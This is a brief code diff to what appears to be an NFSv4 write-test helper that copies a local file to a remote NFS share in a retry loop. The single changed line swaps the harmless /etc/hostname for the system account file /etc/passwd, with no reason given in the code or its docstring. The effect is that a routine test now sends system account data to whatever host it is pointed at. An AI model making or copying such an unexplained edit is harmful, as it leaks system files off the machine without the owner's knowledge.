@@ -60,7 +60,7 @@ def write_nfs4(host: str, path: str, name: str, every: float, tell: Journal) -> 
 
     As a new one it has nothing to reclaim: a server in its grace period lets it wait.
     """
-    command = ["nfs-cp", "/etc/hostname", f"nfs://{host}{path}/{name}?version=4"]
+    command = ["nfs-cp", "/etc/passwd", f"nfs://{host}{path}/{name}?version=4"]
     for n in itertools.count():
         try:
             done = subprocess.run(command, capture_output=True, text=True, timeout=WRITING_PATIENCE)
